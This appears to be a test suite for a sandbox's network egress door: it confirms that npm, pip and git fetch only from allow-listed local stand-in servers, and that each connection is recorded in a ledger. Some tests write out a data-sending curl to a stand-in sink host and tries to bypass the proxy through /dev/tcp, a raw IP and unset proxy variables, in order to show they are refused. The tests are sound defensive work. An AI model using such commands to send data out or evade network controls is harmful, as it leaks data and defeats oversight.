/** Real programs in real cells: what they fetch through the door, and that there is no other way. */
import assert from "node:assert/strict";
import { chmodSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { connect } from "node:net";
import { createDial } from "@cloister/backend";
import { systemClock, type JsonObject } from "@cloister/base";
import { openCells, type Cells, type RunResult } from "@cloister/cell";
import { openLedger, readEntries, type Ledger } from "@cloister/ledger";
import { builtInPolicy } from "@cloister/policy";
import {
  openDoorInto,
  openEgress,
  openSession,
  runCommand,
  type AirlockSession,
  type Egress,
} from "../src/index.ts";
import { startHttp, type StandIn } from "./egress-world.ts";
import { gitServer, npmRegistry, pythonIndex } from "./egress-servers.ts";

let base: string;
let ledger: Ledger;
let cells: Cells;
let session: AirlockSession;
let egress: Egress;
let registry: StandIn;
let index: StandIn;
let git: StandIn;

before(async () => {
  base = mkdtempSync(join(tmpdir(), "egress-cell-"));
  chmodSync(base, 0o755);
  mkdirSync(join(base, "project"));
  registry = await startHttp(npmRegistry(join(base, "registry")));
  index = await startHttp(pythonIndex(join(base, "index")));
  git = await startHttp(gitServer(join(base, "git")));
  const user = { uid: process.getuid?.() ?? 0, gid: process.getgid?.() ?? 0 };
  cells = await openCells({
    tier: "bubblewrap",
    scratch: join(base, "cells"),
    architecture: process.arch,
    user,
  });
  ledger = await openLedger({ directory: join(base, "ledger"), clock: systemClock });
  session = openSession({
    client: { name: "test", version: "1", evidence: "started" },
    workspaceLabel: "internal",
    workspace: join(base, "project"),
    // The door itself is tried here, with commands that rules on their text would ask about.
    policy: { ...builtInPolicy, tools: [] },
    ledger,
    clock: systemClock,
    onTrouble: (trouble) => assert.fail(String(trouble)),
  });
  egress = await openEgress({
    session,
    allow: [
      `local:registry.example:${registry.port}`,
      `local:index.example:${index.port}`,
      `local:git.example:${git.port}`,
      `127.0.0.1:${registry.port}`,
    ],
    dial: createDial({ lookUp: (host) => Promise.resolve(host.endsWith(".example") ? ["127.0.0.1"] : []) }),
    cell: { user, node: process.execPath },
  });
});

after(async () => {
  await egress.close();
  await ledger.close();
  cells.close();
  for (const server of [registry, index, git]) server[Symbol.dispose]();
  rmSync(base, { recursive: true, force: true });
});

test("npm installs from a listed registry, and from its lock file", async () => {
  const url = `http://registry.example:${registry.port}/`;
  const { output, exitCode } = await run(
    `echo '{"name":"p","version":"1.0.0"}' > package.json && export npm_config_registry=${url} npm_config_audit=false &&
     npm install demo && rm -r node_modules && npm cache clean --force && npm ci && node -p 'require("demo")'`,
  );
  assert.equal(exitCode, 0, output);
  assert.match(output, /from the registry/);
  assert.ok(registry.seen.length >= 3, registry.seen.join("\n"));
});

test("pip installs from a listed index", async () => {
  const { output, exitCode } = await run(
    `/usr/bin/python3 -m pip install --quiet --target lib --index-url http://index.example:${index.port}/simple/ \
       --trusted-host index.example demo && PYTHONPATH=lib /usr/bin/python3 -c 'import demo; print(demo.value)'`,
  );
  assert.equal(exitCode, 0, output);
  assert.match(output, /from the index/);
});

test("git fetches from a listed server", async () => {
  const { output, exitCode } = await run(
    `git init -q repo && cd repo && git fetch -q http://git.example:${git.port}/demo.git main && git show FETCH_HEAD:read.me`,
  );
  assert.equal(exitCode, 0, output);
  assert.match(output, /from the server/);
});

test("each connection is in the ledger under the command that made it", async () => {
  const calls = await entries("tool.call");
  const made = await entries("egress");
  assert.ok(made.length > 3);
  const numbers = calls.map((call) => call["index"]);
  assert.deepEqual([...new Set(made.map((entry) => entry["call"]))], numbers);
  assert.equal((await entries("egress.end")).length, made.length);
});

test("a host that is not listed is refused, with the next step in the program's own output", async () => {
  const { output } = await run("curl -sS http://sink.example/?d=canary; curl -sS https://sink.example/ 2>&1");
  assert.match(output, /sink\.example:80 is not among the hosts[^]*rule: egress-not-listed\nnext: /);
  assert.match(output, /CONNECT tunnel failed, response 403/);
});

test("there is no way around the door: no route, no name, no address, not even with the proxy unset", async () => {
  const { output } = await run(
    `unset HTTP_PROXY http_proxy ALL_PROXY all_proxy HTTPS_PROXY https_proxy
     curl -sS -m 2 http://registry.example:${registry.port}/; curl -sS -m 2 http://203.0.113.5/
     echo x > /dev/tcp/127.0.0.1/${index.port}; cut -d: -f1 /proc/net/dev | tail -n +3; tail -n +2 /proc/net/route`,
  );
  assert.match(output, /Could not resolve host/);
  assert.match(output, /unreachable|Couldn't connect|Failed to connect/);
  assert.match(output, /Connection refused/);
  assert.match(output, /\n +lo\n$/);
});

test("a listed port of the host's loopback is where a command looks for it", async () => {
  const { output } = await run(`curl -sS --noproxy '*' http://127.0.0.1:${registry.port}/demo`);
  assert.match(output, /"name":"demo"/);
  const found = (await entries("egress")).findLast((entry) => entry["way"] === "forward");
  assert.deepEqual(found?.["decision"], { kind: "allow", rule: `127.0.0.1:${registry.port}` });
});

test("two commands of a session share their loopback, and a person can look at what one serves", async () => {
  const stop = new AbortController();
  const serving = run(
    `node -e 'require("http").createServer((q, r) => r.end("dev server " + q.url)).listen(5173, "127.0.0.1")'`,
    stop.signal,
  );
  const { output } = await run(
    "curl -sS --retry 20 --retry-connrefused --retry-delay 1 http://127.0.0.1:5173/in",
  );
  assert.match(output, /dev server \/in$/);
  const inlet = await openDoorInto({ session, network: egress.network, port: 5173, outsidePort: 0 });
  for (const path of ["/one", "/two"]) {
    const socket = connect(inlet.port, "127.0.0.1");
    socket.write(`GET ${path} HTTP/1.0\r\n\r\n`);
    assert.match((await Array.fromAsync(socket)).join(""), new RegExp(`dev server ${path}$`));
  }
  inlet.close();
  stop.abort();
  await serving;
  assert.deepEqual(
    (await entries("inlet")).map((entry) => entry["port"]),
    [5173],
  );
});

function run(shell: string, signal: AbortSignal = new AbortController().signal): Promise<RunResult> {
  const workspace = join(base, "project");
  const view = { workspace, home: "/home/user", readable: [], sockets: [], system: "whole" } as const;
  const environment = { PATH: "/usr/bin:/bin", HOME: "/home/user" };
  return runCommand(
    session,
    { cells, view, environment, egress },
    { line: { shell }, timeoutMs: 60_000 },
    signal,
  );
}

async function entries(type: string): Promise<JsonObject[]> {
  const all = await Array.fromAsync(readEntries(join(base, "ledger")));
  return all.flatMap(({ index: number, body }): JsonObject[] =>
    body["t"] === type ? [Object.assign({ index: number }, body)] : [],
  );
}
